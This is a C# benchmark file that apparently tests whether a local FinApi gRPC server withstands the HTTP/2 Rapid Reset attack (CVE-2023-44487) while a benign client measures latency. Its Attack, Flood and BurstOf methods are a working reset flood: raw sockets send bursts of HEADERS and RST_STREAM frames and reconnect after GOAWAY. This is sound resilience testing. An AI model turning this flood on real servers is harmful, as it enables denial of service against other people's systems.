using System.Diagnostics;
using System.Globalization;
using System.Net.Sockets;
using FinApi.Bench.Load;
using FinApi.Bench.Report;
using FinApi.Bench.Scenarios;
using FinApi.Bench.Servers;
using FinApi.Contracts.V1;
using Grpc.Net.Client;

namespace FinApi.Bench.Attacks;

/// <summary>
/// Rapid reset (CVE-2023-44487) from several connections that come again, beside a client that means well.
/// </summary>
internal static class ResetAttack
{
    private const int Attackers = 3;
    private const int Burst = 50;
    private const double Mebi = 1_024 * 1_024;

    // The attackers use the same cores. Without an end to their connections others waited for seconds.
    private const double MaxWaitMilliseconds = 1_000;

    // What lies in the buffers of the two systems when a connection is ended has been sent all the same.
    private const long MaxResetsAConnection = 100_000;

    public static IReadOnlyList<Scenario> All { get; } =
    [
        new(
            "resets",
            $"{Attackers} clients that open streams and reset them at once, and connect again when ended",
            RunAsync),
    ];

    private static async Task<IReadOnlyList<Result>> RunAsync(BenchContext context)
    {
        await using var finApi = await FinApiServer.StartAsync(context.NewFolder());
        var server = finApi.Process;
        var tally = new ResetTally();
        using var time = new CancellationTokenSource(context.Settings.AttackTime, TimeProvider.System);
        var attackers = Enumerable.Range(0, Attackers)
            .Select(_ => Task.Factory.StartNew(
                () => Attack(server.Grpc, finApi.Key, tally, time.Token),
                CancellationToken.None,
                TaskCreationOptions.LongRunning,
                TaskScheduler.Default))
            .ToArray();
        var latency = await CallAsync(server.Grpc, time.Token);
        await Task.WhenAll(attackers);
        var (worst, resident) = (latency.Percentile(0.999), server.ResidentBytes / Mebi);
        return
        [
            new Result("resets", All[0].What)
            {
                Failure = tally.Resets > tally.Connections * MaxResetsAConnection ? "connections are not ended."
                    : worst > MaxWaitMilliseconds && !context.Settings.IsSmoke ? "others wait."
                    : null,
                Notes =
                [
                    string.Create(
                        CultureInfo.InvariantCulture,
                        $"{tally.Resets:N0} resets in {context.Settings.AttackTime.TotalSeconds:F0} s over "
                        + $"{tally.Connections:N0} connections; {tally.GoAways:N0} times the attacker saw GOAWAY "
                        + $"before its own sending closed the connection. Beside it "
                        + $"{latency.Count:N0} calls of another client: p50 {latency.Percentile(0.5):F1} ms, p99 "
                        + $"{latency.Percentile(0.99):F1}, p99.9 {worst:F1}; resident memory {resident:F0} MiB."),
                ],
            },
        ];
    }

    private static async Task<Histogram> CallAsync(Uri address, CancellationToken stop)
    {
        var latency = new Histogram();
        using var channel = GrpcChannel.ForAddress(address);
        var client = new Status.StatusClient(channel);
        while (!stop.IsCancellationRequested)
        {
            var start = Stopwatch.GetTimestamp();
            await client.GetStatusAsync(new GetStatusRequest(), cancellationToken: CancellationToken.None);
            latency.Add((long)Stopwatch.GetElapsedTime(start).TotalMicroseconds);
        }

        return latency;
    }

    // On a thread of its own, so that the client that means well waits for the server alone.
    private static void Attack(Uri address, string key, ResetTally tally, CancellationToken stop)
    {
        var headers = Http2Frames.CallHeaders("/finapi.v1.MarketData/GetQuote", key);
        while (!stop.IsCancellationRequested)
        {
            using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { SendTimeout = 5_000 };
            socket.Connect(address.Host, address.Port);
            Interlocked.Increment(ref tally.Connections);
            try
            {
                Flood(socket, headers, tally, stop);
            }
            catch (SocketException)
            {
                // The server has closed it without a word.
            }
        }
    }

    private static void Flood(Socket socket, byte[] headers, ResetTally tally, CancellationToken stop)
    {
        socket.Send(Http2Frames.Preface());
        var received = new List<byte>();
        var buffer = new byte[4_096];
        for (var stream = 1; !stop.IsCancellationRequested; stream += 2 * Burst)
        {
            socket.Send(BurstOf(stream, headers));
            Interlocked.Add(ref tally.Resets, Burst);
            while (socket.Available > 0 || socket.Poll(0, SelectMode.SelectRead))
            {
                var count = socket.Receive(buffer);
                received.AddRange(buffer.AsSpan(0, count));
                if (HasGoAway(received))
                {
                    Interlocked.Increment(ref tally.GoAways);
                    return;
                }

                if (count == 0)
                {
                    return;
                }
            }
        }
    }

    // Takes whole frames out of what has come.
    private static bool HasGoAway(List<byte> received)
    {
        while (received.Count >= Http2Frames.HeaderLength)
        {
            var length = (received[0] << 16) | (received[1] << 8) | received[2];
            if (received.Count < Http2Frames.HeaderLength + length)
            {
                return false;
            }

            if (received[3] == Http2Frames.GoAway)
            {
                return true;
            }

            received.RemoveRange(0, Http2Frames.HeaderLength + length);
        }

        return false;
    }

    private static byte[] BurstOf(int first, byte[] headers) =>
    [
        .. Enumerable.Range(0, Burst).SelectMany(i => (byte[])
        [
            .. Http2Frames.HeadersFrame(first + (2 * i), headers),
            .. Http2Frames.Frame(Http2Frames.ResetStream, 0, first + (2 * i), [0, 0, 0, 8]),
        ]),
    ];

    private sealed class ResetTally
    {
        public long Resets;
        public long Connections;
        public long GoAways;
    }
}
